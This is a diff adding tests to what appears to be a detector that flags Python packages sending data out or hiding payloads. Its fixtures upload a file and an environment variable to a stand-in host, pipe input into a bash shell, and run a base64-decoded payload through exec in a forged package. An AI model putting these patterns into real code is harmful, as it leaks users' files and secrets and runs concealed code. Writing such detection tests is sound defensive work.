@@ -75,3 +75,27 @@ function callsOf(source: string): readonly Call[] {
 function sentBy(source: string): readonly string[] {
   return callsOf(source).filter(({ name }) => name === 'requests.post').flatMap(({ roles }) => roles.data?.origins.map(({ source: from }) => from) ?? []);
 }
+
+test('a form or message holds what it was filled with, and an open file what is in it', () => {
+  const sent = (source: string): readonly string[] =>
+    callsOf(`import aiohttp, discord, os\nasync def report(session, hook):\n${source}`).filter(({ does }) => does.includes('net.send')).flatMap(({ roles }) => roles.data?.origins.map(({ source: from, detail }) => `${from} ${detail ?? ''}`) ?? []);
+  assert.deepEqual(sent('    form = aiohttp.FormData()\n    form.add_field("file", open("notes.txt", "rb"))\n    async with aiohttp.ClientSession() as s:\n        await s.post("https://files.example/", data=form)\n'), ['file notes.txt']);
+  assert.deepEqual(sent('    note = discord.Embed(title="x")\n    note.add_field(name="who", value=os.getenv("USERNAME"))\n    discord.SyncWebhook.from_url("https://files.example/").send(embed=note)\n'), ['environment USERNAME']);
+  assert.deepEqual(sent('    form = aiohttp.FormData()\n    form.add_field("file", "words")\n    async with aiohttp.ClientSession() as s:\n        await s.post("https://files.example/", data=form)\n'), []);
+});
+
+test('what is typed into a shell that waits for it is a command', () => {
+  const typed = (program: string): boolean => callsOf(`import subprocess\nsubprocess.run(${program}, input="echo typed", text=True)\n`).some(({ does, roles }) => does.includes('process.shell') && roles.command?.text === 'echo typed');
+  assert.ok(typed('["bash"]'));
+  assert.ok(!typed('["sort"]'));
+});
+
+test('a payload of bytes is no sign of a large product', () => {
+  const code = 'print("forged")\n'.repeat(20);
+  const payload = Buffer.from(code).toString('base64');
+  const judged = (literal: string): number =>
+    examineClosely({ target: 'forged', name: 'forged-1.0.tar.gz', bytes: forgeSdist('forged', '1.0', { 'forged/__init__.py': '', 'forged/tool.py': `import base64\n${literal}\nexec(base64.b64decode(b"${payload}"))\n` }) }, { budget: new Budget() }).report.score;
+  const words = Array.from({ length: 5000 }, (_, i) => `word${i} = ${i * 7}`).join('\n');
+  assert.equal(judged(`blob = b"${'QUJDRA'.repeat(20_000)}"`), judged('blob = b""'));
+  assert.ok(judged(words) < judged('blob = b""'));
+});
